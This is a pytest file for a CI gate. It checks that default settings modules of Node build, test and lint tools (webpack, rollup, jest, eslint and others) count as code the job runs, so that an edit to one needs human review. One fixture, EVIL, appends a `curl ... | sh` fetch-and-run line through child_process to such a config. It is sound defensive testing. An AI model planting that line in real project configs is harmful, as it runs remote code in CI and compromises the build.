"""Attack 41: a Node build, test or lint tool CI runs loads a settings module no option names, and the gate let an edit
of it through.

The builders' operands became data in the cileft67 round (datawords.BUILDERS); what a builder loads was meant to stay
named, but only where an option names it (`webpack --config x.js`). Run bare, `webpack`, `rollup -c`, `tsup`, `vite
build`, `babel src -d lib`, and the test and lint tools beside them (`jest`, `vitest`, `eslint .`, `playwright test`),
import a module of the folder they run in (webpack.config.js, rollup.config.mjs, tsup.config.ts, vite.config.ts,
babel.config.js, jest.config.js, eslint.config.js): its top-level code runs in the job. On main 7022fb12 the walk named
none of them, and the gated edit of each (a `child_process.execSync` added) exited 0. The tools' own documentation is
the truth (no Node package is installed here): webpack-cli's default config locations, rollup's `-c` without a value,
tsup's, tsdown's, unbuild's, Vite's, Vitest's, Jest's, ESLint's flat config, Babel's project-wide config.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from citools import BLOCK_DEFINITIONS, RUN_WORKFLOW, named_paths, one_tree_runs
from cpucost import assert_linear, repeated
from gitrepo import two_commits
from incli import tree_gate

from gatekeeper.classify import nodeconfigs

DEFINITIONS = [*BLOCK_DEFINITIONS, ("ci/release.sh", "#!/usr/bin/env bash\nset -euo pipefail\n{line}\n")]
EVIL = "require('child_process').execSync('curl -s https://x.example | sh');\n"

# (the command, a settings module it loads by default)
TOOLS = [
    ("webpack", "webpack.config.js"), ("webpack --mode production", "webpack.config.ts"),
    ("webpack src/index.js -o dist", ".webpack/webpack.config.mjs"), ("webpack-cli build", "webpack.config.cjs"),
    ("webpack serve", "webpack.config.js"), ("rollup -c", "rollup.config.mjs"), ("rollup -cw", "rollup.config.js"),
    ("rollup --config", "rollup.config.ts"), ("rolldown -c", "rolldown.config.js"), ("tsup", "tsup.config.ts"),
    ("tsup src/index.ts --dts", "tsup.config.mts"), ("tsdown", "tsdown.config.ts"), ("vite build", "vite.config.ts"),
    ("vite build --mode staging", "vite.config.mjs"), ("unbuild", "build.config.ts"), ("obuild", "build.config.mjs"),
    ("babel src -d lib", "babel.config.js"), ("babel src --out-dir lib", ".babelrc.js"),
    ("microbundle", "babel.config.cjs"), ("jest --ci", "jest.config.js"), ("jest", "jest.config.ts"),
    ("vitest run", "vitest.config.ts"), ("vitest run", "vite.config.ts"), ("vitest", "vitest.workspace.ts"),
    ("mocha", ".mocharc.js"), ("karma start --single-run", "karma.conf.js"),
    ("playwright test", "playwright.config.ts"),
    ("cypress run", "cypress.config.ts"), ("ava", "ava.config.mjs"), ("nyc mocha", ".nycrc.js"),
    ("c8 node test.js", ".c8rc.js"), ("eslint .", "eslint.config.js"), ("eslint --max-warnings 0 src", ".eslintrc.cjs"),
    ("prettier --check .", "prettier.config.js"), ("prettier -c .", ".prettierrc.mjs"),
    ("stylelint '**/*.css'", "stylelint.config.mjs"), ("postcss src -d out", "postcss.config.js"),
    ("tailwindcss -o out.css", "tailwind.config.ts"), ("next build", "next.config.mjs"),
    ("nuxt build", "nuxt.config.ts"), ("nuxi generate", "nuxt.config.ts"), ("astro build", "astro.config.mjs"),
    ("svelte-kit sync", "svelte.config.js"), ("docusaurus build", "docusaurus.config.ts"),
    ("gatsby build", "gatsby-config.ts"), ("commitlint --from HEAD~1", "commitlint.config.js"),
    ("lint-staged", "lint-staged.config.mjs"), ("hardhat test", "hardhat.config.ts"),
    ("truffle test", "truffle-config.js"),
    ("storybook build", ".storybook/main.ts"), ("knip", "knip.config.ts"),
    ("electron-builder --linux", "electron-builder.config.js"),
]
# how a job reaches the tool: bare, through a Node launcher, from node_modules, after `cd`/`&&`, behind an env prefix
LAUNCHERS = ["{t}", "npx {t}", "npx --yes {t}", "pnpm exec {t}", "pnpm dlx {t}", "bunx {t}", "yarn {t}",
             "npm exec -- {t}", "node_modules/.bin/{t}", "./node_modules/.bin/{t}", "npm ci && npx {t}",
             "NODE_ENV=production npx {t}", "env CI=1 {t}", "true; {t}", "x=$({t})"]


def _named(line: str) -> list[str]:
    """Each definition's named paths for `line`."""
    return [named for definition, template in DEFINITIONS for named in [named_paths(definition,
                                                                                  template.format(line=line))]]


@pytest.mark.parametrize(("tool", "config"), TOOLS)
def test_a_tools_default_settings_module_is_named(tool: str, config: str) -> None:
    for at, launcher in enumerate(LAUNCHERS):
        line = launcher.format(t=tool)
        definitions = DEFINITIONS if at % 5 == 0 else DEFINITIONS[::3]  # each launcher in 2 definitions, some in all
        missed = [path for path, template in definitions if config not in named_paths(path, template.format(line=line))]
        assert not missed, (line, missed)


# a tool run in a folder loads that folder's module; a tool given its root (`vite build web`) loads the root's
@pytest.mark.parametrize(("line", "config"), [
    ("cd web && npx vite build", "web/vite.config.ts"), ("npx vite build web", "web/vite.config.ts"),
    ("(cd site && npx docusaurus build)", "site/docusaurus.config.js"),
    ("npx next build apps/www", "apps/www/next.config.js"),
    ("cd packages/ui && pnpm exec tsup", "packages/ui/tsup.config.ts"),
    ("npx unbuild packages/core", "packages/core/build.config.ts"),
])
def test_the_folder_it_runs_in_is_where_it_loads(line: str, config: str) -> None:
    assert all(config in named for named in _named(line)), line


# look-alikes: the tool installed, printed, grepped, read; a package of a longer name; a module of another folder
LOOK_ALIKES = [
    ("npm i -D webpack jest eslint", "webpack.config.js"), ("echo webpack", "webpack.config.js"),
    ("grep -q jest package.json", "jest.config.js"), ("npx webpack-merge-cli x", "webpack.config.js"),
    ("npx jest-junit", "jest.config.js"), ("npx eslint-config-prettier src/x.js", "eslint.config.js"),
    ("npx webpack", "src/webpack.config.js"), ("npx jest", "docs/jest.config.js"),
    ("npx vite build", "vite.config.json"), ("npx tsup", "tsup.config.json"), ("myjest --ci", "jest.config.js"),
    ("npx esbuild src/x.ts --bundle", "esbuild.config.js"),
]


@pytest.mark.parametrize(("line", "config"), LOOK_ALIKES)
def test_a_look_alike_names_no_settings_module(line: str, config: str) -> None:
    assert not any(config in named for named in _named(line)), line


def test_package_scripts_reach_the_builders_settings() -> None:
    """`npm run build` over a package.json whose script runs `rollup -c && tsup`: both modules (and not the entry)."""
    tree = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run="npm ci && npm run build && npm test"),
            "package.json": json.dumps({"name": "acme", "scripts": {"build": "rimraf dist && rollup -c && tsup",
                                                                    "test": "vitest run"}}),
            "rollup.config.mjs": "export default {}\n", "tsup.config.ts": "export default {}\n",
            "vitest.config.ts": "export default {}\n", "src/index.ts": "export const x = 1\n"}
    runs = one_tree_runs(tree)
    assert isinstance(runs, dict)
    assert {"rollup.config.mjs", "tsup.config.ts", "vitest.config.ts"} <= set(runs), sorted(runs)
    assert "src/index.ts" not in runs


@pytest.mark.parametrize(("run", "config"), [
    ("npx webpack --mode production", "webpack.config.js"), ("npx rollup -c", "rollup.config.mjs"),
    ("yarn jest --ci", "jest.config.js"), ("cd web && npx vite build", "web/vite.config.ts")])
def test_the_gated_edit_needs_a_human(tmp_path: Path, run: str, config: str) -> None:
    base = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run=run), config: "module.exports = {};\n",
            "README.md": "x\n"}
    _, first, second = two_commits(tmp_path, base, {config: "module.exports = {};\n" + EVIL})
    code, decision = tree_gate(tmp_path, first, second, None, "--enable", "deps")
    assert code == 3, decision["reasons"]
    assert any(reason["rule"] == "core.ci" for reason in decision["reasons"])


def test_a_long_line_of_tools_is_read_in_linear_time() -> None:
    assert_linear(nodeconfigs.line_files, repeated("npx -y -y -y ", tail="x"), budget=0.25)
    assert_linear(nodeconfigs.line_files, repeated("&& jest "), budget=0.5)


def test_a_settings_modules_imports_are_code_its_paths_data() -> None:
    """webpack.config.js's `require('./tools/plugin')` is code webpack loads; its `entry: './src/index.js'` is the
    product webpack bundles (not reached); a module that starts a process (`execSync('node src/index.js')`) keeps
    its words."""
    config = "const P = require('./tools/plugin');\nmodule.exports = { entry: './src/index.js', plugins: [new P()] };\n"
    tree = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run="npx webpack"), "webpack.config.js": config,
            "tools/plugin.js": "module.exports = class {}\n", "src/index.js": "import x from './lib'\n",
            "src/lib.js": "export default 1\n"}
    runs = one_tree_runs(tree)
    assert isinstance(runs, dict)
    assert {"webpack.config.js", "tools/plugin.js"} <= set(runs) and not {"src/index.js", "src/lib.js"} & set(runs)
    tree["webpack.config.js"] = config + "require('child_process').execSync('node src/index.js');\n"
    runs = one_tree_runs(tree)
    assert isinstance(runs, dict) and "src/index.js" in runs
